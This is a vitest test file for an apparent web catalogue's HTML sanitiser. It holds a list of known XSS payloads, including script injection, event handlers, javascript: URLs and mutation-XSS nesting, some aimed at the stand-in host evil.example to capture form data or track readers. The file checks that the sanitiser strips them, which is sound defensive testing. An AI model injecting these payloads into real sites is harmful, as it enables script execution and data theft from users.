import { cleanHtml } from '@ultrafibra/server/catalogue/clean-html'
import { openTestApp } from '@ultrafibra/server/tests/support/test-app'
import { describe, expect, it } from 'vitest'

/** Known XSS payloads that run scripts, leave their element or track readers. */
const payloads: readonly string[] = [
  '<script>pwn()</script>',
  '<scr<script>ipt>pwn()</scr</script>ipt>',
  '<img src=x onerror=pwn()>',
  '<svg/onload=pwn()>',
  '<svg><script>pwn()</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=pwn()></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
  '<a href="javascript:pwn()">x</a>',
  '<a href="jAvAsCrIpT&colon;pwn()">x</a>',
  '<a href="java\nscript:pwn()">x</a>',
  '<a href="\x01javascript:pwn()">x</a>',
  '<a href="data:text/html,<script>pwn()</script>">x</a>',
  '<a href="vbscript:pwn()">x</a>',
  '<a href="https://a.example" onclick="pwn()" target="_blank" style="position:fixed">x</a>',
  '<iframe srcdoc="<script>pwn()</script>"></iframe>',
  '<object data="javascript:pwn()"></object><embed src="javascript:pwn()">',
  '<form action="https://evil.example"><input name="cpf"><button formaction="javascript:pwn()">x</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:pwn()"><base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/a.css"><style>@import "https://evil.example/a.css"</style>',
  '<p style="background:url(https://evil.example/?x)">x</p>',
  '<p id="cookies" name="getElementById" class="button">x</p>',
  '<details open ontoggle=pwn()>x</details>',
  '<video><source onerror="pwn()"></video><audio src=x onerror=pwn()></audio>',
  '<template><script>pwn()</script></template><slot>x</slot>',
  '<!--><img src=x onerror=pwn()>--><![CDATA[<script>pwn()</script>]]>',
  '<p title="x" autofocus tabindex=1 onfocus=pwn()>x',
  '<a href="//evil.example">x</a><a href="\\\\evil.example">x</a><a href="http://evil.example">x</a>',
]

const allowed = new Set(['p', 'ul', 'ol', 'li', 'strong', 'em', 'b', 'i', 'h4', 'a', 'br'])

/** Anything in a sanitised text besides the allowed elements and links. */
const foreignIn = (html: string): string[] =>
  [...html.matchAll(/<\/?([^\s/>]*)([^>]*)>/g)].flatMap(([whole, name = '', attributes = '']) => {
    const isPlain = allowed.has(name) && /^\s*\/?$/.test(attributes)
    const isLink = name === 'a' && /^ href="(?:https:\/\/|#)[^"<>]*"$/.test(attributes)
    return isPlain || isLink ? [] : [whole]
  })

describe('external HTML', () => {
  it.each(payloads)('is sent as text only: %s', (payload) => {
    const sent = cleanHtml(`<p>Antes</p>${payload}<p>Depois</p>`)
    expect(foreignIn(sent)).toEqual([])
    expect(sent).toContain('Antes')
  })

  it.each(payloads.slice(0, 8))('is detected if sent unsanitised: %s', (payload) => {
    expect(foreignIn(payload)).not.toEqual([])
  })

  it('is clean in all regulations and summaries sent', async () => {
    const server = await openTestApp()
    const { body } = await server.script().send('GET', '/api/plans/regulationsAndSummaries/getAll')
    const { regulations, sumarries } = body as Record<string, { html: string }[]>
    const texts = [...(regulations ?? []), ...(sumarries ?? [])].map(({ html }) => html)
    expect(texts.length).toBeGreaterThan(1)
    expect(texts.flatMap(foreignIn)).toEqual([])
    await server.close()
  })
})
